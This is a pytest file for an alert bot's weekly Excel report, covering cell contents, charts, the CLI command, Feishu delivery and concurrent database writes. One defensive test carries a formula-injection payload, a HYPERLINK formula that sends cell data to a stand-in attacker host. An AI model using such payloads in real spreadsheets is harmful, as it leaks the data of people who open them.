"""The weekly report workbook, checked cell by cell, and `megatrace alertbot report` (with --send)."""

from __future__ import annotations

import io
import json
import re
import subprocess
import sys
import threading
import time
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

import openpyxl
import pytest
import requests
import yaml

from megatrace.alertbot.report import DETAIL_COLUMNS, weekly_report, write_workbook
from megatrace.alertbot.service import Service
from megatrace.cli import main
from tests.alertbot.conftest import TOKEN, Bot, alert, config, fingerprint, webhook
from tests.alertbot.test_incident import T0, VERDICT, verdict_delivered
from tests.support.feishu_server import FeishuServer
from tests.support.services import free_port, running


def at(day: int, hour: int, minute: int = 0) -> float:
    return datetime(2026, 11, day, hour, minute, tzinfo=UTC).timestamp()


def fill(bot: Bot) -> None:
    """Five episodes in the week of 2026-11-16 (Monday) and one after it."""
    episodes = [
        (
            alert("MegatraceRankHang", starts_at=at(16, 10), job="llm", rank="3", instance="gpu-1:9450"),
            at(16, 10, 30),
        ),
        (alert("GpuThrottled", starts_at=at(17, 8), severity="P2", instance="gpu-2:9450"), at(17, 9)),
        (alert("GpuThrottled", starts_at=at(17, 12), severity="P2", instance="gpu-2:9450"), at(17, 12, 10)),
        (
            alert(
                "MegatraceSlowRank",
                starts_at=at(19, 14),
                severity="P1",
                job="llm",
                rank="5",
                instance="gpu-1:9450",
            ),
            None,
        ),
        (alert("NodeInfo", starts_at=at(22, 23), severity="info", node="gpu-3"), None),
        (alert("MegatraceRankHang", starts_at=at(23, 1), job="other", instance="gpu-9:9450"), None),
    ]
    for item, ends in episodes:
        start = item["startsAt"]
        first = datetime.fromisoformat(start.replace("Z", "+00:00")).timestamp()
        bot.receive(webhook(item), first + 5)
        if ends is not None:
            bot.receive(
                webhook(
                    {**item, "status": "resolved", "endsAt": datetime.fromtimestamp(ends, UTC).isoformat()}
                ),
                ends,
            )


def values(sheet) -> list[list]:
    rows = []
    for row in sheet.iter_rows(values_only=True):
        row = list(row)
        while row and row[-1] is None:
            row.pop()
        rows.append(row)
    return rows


def test_workbook_cell_by_cell(tmp_path: Path) -> None:
    bot = Bot(config(tmp_path))
    fill(bot)
    path = tmp_path / "week.xlsx"
    summary = write_workbook(weekly_report(bot.store, at(16, 0), at(23, 0), top_n=10), path)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Summary", "Detail", "On call"]
    assert values(book["Summary"]) == [
        ["Megatrace alert report"],
        ["From", datetime(2026, 11, 16), "Until", datetime(2026, 11, 23), "Time zone", "UTC"],
        [],
        ["Day", "P0", "P1", "P2", "P3", "Total"],
        ["2026-11-16", 1, 0, 0, 0, 1],
        ["2026-11-17", 0, 0, 2, 0, 2],
        ["2026-11-18", 0, 0, 0, 0, 0],
        ["2026-11-19", 0, 1, 0, 0, 1],
        ["2026-11-20", 0, 0, 0, 0, 0],
        ["2026-11-21", 0, 0, 0, 0, 0],
        ["2026-11-22", 0, 0, 0, 1, 1],
        ["Total", 1, 1, 2, 1, 5],
        [],
        ["Top recurring alerts", "Episodes"],
        ["GpuThrottled", 2],
        ["MegatraceRankHang", 1],
        ["MegatraceSlowRank", 1],
        ["NodeInfo", 1],
        [],
        ["Top nodes", "Episodes"],
        ["gpu-1", 2],
        ["gpu-2", 2],
        ["gpu-3", 1],
        [],
        ["Time to resolve", "Resolved", "Median minutes", "90th percentile minutes", "Unresolved"],
        ["P0", 1, 30.0, 30.0, 0],
        ["P1", 0, None, None, 1],
        ["P2", 2, 35.0, 60.0, 0],
        ["P3", 0, None, None, 1],
    ]
    detail = values(book["Detail"])
    assert detail[0][:8] == [
        "Episode",
        "Alert",
        "Level",
        "Severity label",
        "Status",
        "Started",
        "Ended",
        "Minutes to resolve",
    ]
    assert len(detail) == 6
    hang_labels = {
        "alertname": "MegatraceRankHang",
        "severity": "P0",
        "job": "llm",
        "rank": "3",
        "instance": "gpu-1:9450",
    }
    assert detail[1][1:] == [
        "MegatraceRankHang", "P0", "P0", "resolved",
        datetime(2026, 11, 16, 10), datetime(2026, 11, 16, 10, 30), 30.0,
        "llm", "gpu-1", None, None, 1, "MegatraceRankHang on gpu-1:9450",
        0, None, None, 0, fingerprint(hang_labels),
    ]  # fmt: skip
    assert detail[3][2:5] == ["P2", "P2", "resolved"] and detail[3][14] == 1  # the recurrence
    assert detail[4][4:8] == ["firing", datetime(2026, 11, 19, 14), None, None]
    assert detail[4][10:13] == ["rank 5 on gpu-1", None, 1]  # a slow-rank alert names its rank
    assert detail[5][2:4] == ["P3", "info"] and detail[5][9] == "gpu-3"
    assert summary["total"] == 5 and summary["by_level"] == [("P0", 1), ("P1", 1), ("P2", 2), ("P3", 1)]
    assert summary["mttr"] == "30.0 min"


def test_a_hang_counts_once_with_its_culprit_in_a_filterable_sized_detail(tmp_path: Path) -> None:
    bot = Bot(config(tmp_path))
    start = at(18, 9)
    hang = alert(
        "MegatraceJobHang",
        starts_at=start,
        job="llm",
        culprit_rank="3",
        culprit_node="gpu-7",
        culprit_seen="dead",
    )
    victims = [alert(starts_at=start + 20, job="llm", rank=str(r), instance="gpu-1:9450") for r in (0, 1)]
    bot.receive(webhook(hang, *victims), start + 30)
    ended = datetime.fromtimestamp(start + 1200, UTC).isoformat()
    bot.receive(
        webhook(*({**a, "status": "resolved", "endsAt": ended} for a in (hang, *victims))), start + 1200
    )
    path = tmp_path / "week.xlsx"
    summary = write_workbook(weekly_report(bot.store, at(16, 0), at(23, 0)), path)
    assert summary["total"] == 1 and summary["by_level"][0] == ("P0", 1)
    detail = openpyxl.load_workbook(path)["Detail"]
    rows = values(detail)
    assert len(rows) == 2
    assert rows[1][1:13] == [
        "MegatraceJobHang", "P0", "P0", "resolved",
        datetime(2026, 11, 18, 9), datetime(2026, 11, 18, 9, 20), 20.0,
        "llm", None, "rank 3 on gpu-7", None, 3,
    ]  # fmt: skip
    assert detail.auto_filter.ref == f"A1:{detail.cell(1, detail.max_column).column_letter}2"
    widths = {
        detail.cell(1, c).value: detail.column_dimensions[detail.cell(1, c).column_letter].width
        for c in (2, 11)
    }
    assert widths == {"Alert": len("MegatraceJobHang") + 2, "Culprit": len("rank 3 on gpu-7") + 2}


def test_workbook_has_the_stacked_chart(tmp_path: Path) -> None:
    bot = Bot(config(tmp_path))
    fill(bot)
    path = tmp_path / "week.xlsx"
    write_workbook(weekly_report(bot.store, at(16, 0), at(23, 0)), path)
    with zipfile.ZipFile(path) as archive:
        chart_xml = archive.read("xl/charts/chart1.xml").decode()
    assert '<grouping val="stacked" />' in chart_xml
    formulas = re.findall(r"<f>([^<]*)</f>", chart_xml)
    levels = ["B", "C", "D", "E"]  # one series per level: title cell, categories (days), values
    assert formulas == [
        f
        for col in levels
        for f in (f"'Summary'!{col}4", "'Summary'!$A$5:$A$11", f"'Summary'!${col}$5:${col}$11")
    ]


def write_config(tmp_path: Path, **extra: object) -> Path:
    cfg = {
        "auth": {"bearer_token": TOKEN},
        "store": {"path": str(tmp_path / "bot.db")},
        "delivery": {"console_path": str(tmp_path / "console.jsonl")},
        "report": {"directory": str(tmp_path / "reports")},
        **extra,
    }
    path = tmp_path / "bot.yaml"
    path.write_text(yaml.safe_dump(cfg))
    return path


def test_report_command_writes_the_workbook(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    bot = Bot(config(tmp_path))
    fill(bot)
    bot.store.close()
    cfg = write_config(tmp_path)
    out = tmp_path / "out.xlsx"
    argv = [
        "alertbot",
        "report",
        "--config",
        str(cfg),
        "--since",
        "2026-11-16",
        "--until",
        "2026-11-23",
        "--output",
        str(out),
    ]
    assert main(argv) == 0
    assert json.loads(capsys.readouterr().out) == {"path": str(out), "episodes": 5}
    assert openpyxl.load_workbook(out)["Summary"]["F12"].value == 5
    assert main([*argv[:5], "2026-11-23", "--until", "2026-11-16"]) == 2


def test_report_is_sent_to_feishu_as_file_and_card(tmp_path: Path, feishu: FeishuServer, capsys) -> None:
    bot = Bot(config(tmp_path))
    fill(bot)
    bot.store.close()
    cfg = write_config(
        tmp_path,
        feishu={"base_url": feishu.url, "app": {"app_id": feishu.app_id, "app_secret": feishu.app_secret}},
        report={"directory": str(tmp_path / "reports"), "chat": "oc_reports"},
    )
    assert (
        main(
            [
                "alertbot",
                "report",
                "--config",
                str(cfg),
                "--since",
                "2026-11-16",
                "--until",
                "2026-11-23",
                "--send",
            ]
        )
        == 0
    )
    result = json.loads(capsys.readouterr().out)
    assert result["episodes"] == 5 and result["undelivered"] == 0
    (upload,) = feishu.select("file")
    assert (
        upload.body["file_type"] == "xls"
        and upload.body["file_name"] == "megatrace-alerts-20261116-20261123.xlsx"
    )
    sent_book = openpyxl.load_workbook(io.BytesIO(upload.body["data"]))
    assert sent_book["Summary"]["F12"].value == 5
    file_message, card = feishu.messages("oc_reports")
    assert file_message.body["msg_type"] == "file" and file_message.body["content"] == {
        "file_key": upload.key
    }
    assert card.body["msg_type"] == "interactive"
    assert (
        card.body["content"]["header"]["title"]["content"]
        == "Megatrace weekly alert report 2026-11-16 – 2026-11-22"
    )
    text = card.body["content"]["elements"][0]["text"]["content"]
    assert "**5 alert episodes**" in text and "P2: 2" in text and "- GpuThrottled: 2" in text


def test_scheduled_weekly_report_goes_to_the_console_without_feishu(tmp_path: Path) -> None:
    bot = Service(config(tmp_path, report={"cron": "0 9 * * 1", "timezone": "UTC"}), listen=False)
    try:
        bot.weekly_report()
        bot.delivery.deliver_due()
        (line,) = [json.loads(x) for x in Path(bot.cfg.delivery.console_path).read_text().splitlines()]
        assert line["kind"] == "report" and Path(line["path"]).exists()
        assert line["card"]["header"]["title"]["content"].startswith("Megatrace weekly alert report")
        bot.weekly_report()  # the scheduler firing twice for one period sends it once
        assert bot.delivery.deliver_due() == 0
    finally:
        bot.store.close()


@pytest.mark.slow
def test_report_beside_a_running_bot_that_writes_the_database(tmp_path: Path) -> None:
    port = free_port()
    cfg = write_config(tmp_path, listen=f"127.0.0.1:{port}", dedupe={"storm_threshold": 0})
    base = f"http://127.0.0.1:{port}"
    bot = [sys.executable, "-m", "megatrace.cli", "alertbot", "--config", str(cfg)]
    report = [sys.executable, "-m", "megatrace.cli", "alertbot", "report", "--config", str(cfg)]
    now = datetime.now(UTC)
    period = [
        "--since",
        f"{now - timedelta(days=1):%Y-%m-%dT%H:%M}",
        "--until",
        f"{now + timedelta(days=1):%Y-%m-%dT%H:%M}",
    ]
    console = tmp_path / "console.jsonl"
    stop = threading.Event()
    posted: list[int] = []
    auth = {"Authorization": f"Bearer {TOKEN}"}

    def console_kinds() -> list[str]:
        return [json.loads(x)["kind"] for x in console.read_text().splitlines()] if console.exists() else []

    def keep_posting() -> None:  # the bot writes the database all through the report runs
        while not stop.is_set():
            item = alert(
                "MegatraceSlowRank", severity="P1", starts_at=time.time(), job=f"llm-{len(posted)}", rank="0"
            )
            answer = requests.post(f"{base}/alertmanager", json=webhook(item), headers=auth, timeout=10)
            posted.append(answer.status_code)

    with running(bot, f"{base}/healthz", tmp_path / "bot.log"):
        poster = threading.Thread(target=keep_posting)
        poster.start()
        try:
            while len(posted) < 5:
                time.sleep(0.05)
            written = subprocess.run(
                [*report, *period, "--output", str(tmp_path / "live.xlsx")],
                capture_output=True,
                text=True,
                timeout=120,
            )
            sent = subprocess.run([*report, *period, "--send"], capture_output=True, text=True, timeout=120)
        finally:
            stop.set()
            poster.join()
        assert written.returncode == 0, written.stderr
        assert sent.returncode == 0, sent.stderr
        for run in (written, sent):
            assert "locked" not in run.stderr and "Traceback" not in run.stderr
        episodes = json.loads(written.stdout)["episodes"]
        assert 5 <= episodes <= len(posted)
        assert openpyxl.load_workbook(tmp_path / "live.xlsx")["Detail"].max_row == episodes + 1
        assert json.loads(sent.stdout)["undelivered"] == 0
        deadline = time.monotonic() + 60
        while console_kinds().count("firing") < len(posted) and time.monotonic() < deadline:
            time.sleep(0.1)
        assert requests.get(f"{base}/healthz", timeout=5).json()["status"] == "ok"
    assert set(posted) == {200}
    assert console_kinds().count("firing") == len(posted)
    assert console_kinds().count("report") == 1  # the bot and the command never both send it


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_a_summary_that_looks_like_a_formula_stays_text(tmp_path: Path, lead: str) -> None:
    """Alert text is data: a summary starting as a spreadsheet formula reloads as the same string."""
    bot = Bot(config(tmp_path))
    text = f'{lead}HYPERLINK("http://evil.example/?"&A1,"click")'
    item = alert("GpuThrottled", starts_at=at(17, 8), severity="P2", instance=f"{lead}1+1")
    item["annotations"]["summary"] = text
    bot.receive(webhook(item), at(17, 8) + 5)
    path = tmp_path / "week.xlsx"
    write_workbook(weekly_report(bot.store, at(16, 0), at(23, 0)), path)
    detail = openpyxl.load_workbook(path)["Detail"]
    column = DETAIL_COLUMNS.index("Summary") + 1
    cell = detail.cell(2, column)
    assert (cell.value, cell.data_type) == (text, "s")
    node = detail.cell(2, DETAIL_COLUMNS.index("Node") + 1)
    assert (node.value, node.data_type) == (f"{lead}1+1", "s")
    with zipfile.ZipFile(path) as book:
        sheets = [name for name in book.namelist() if name.startswith("xl/worksheets/")]
        assert sheets and not any(re.search(rb"<(\w+:)?f[ >/]", book.read(name)) for name in sheets)


def test_an_incidents_row_gives_the_cause_the_drill_down_named(tmp_path: Path) -> None:
    verdict = {**VERDICT, "why": {"rank": 5, "class": "cpu_quota", "evidence": "throttled 63 % vs 0 %"}}
    bot, runner = verdict_delivered(tmp_path, verdict)
    runner.shutdown()
    path = tmp_path / "week.xlsx"
    write_workbook(weekly_report(bot.store, T0 - 3600, T0 + 3600), path)
    header, *rows = values(openpyxl.load_workbook(path)["Detail"])
    (row,) = (r for r in rows if r[header.index("Alert")] == "MegatraceJobHang")
    assert row[header.index("Culprit")] == "rank 5 on gpu-9"
    assert row[header.index("Cause")] == "CPU quota: throttled 63 % vs 0 %"
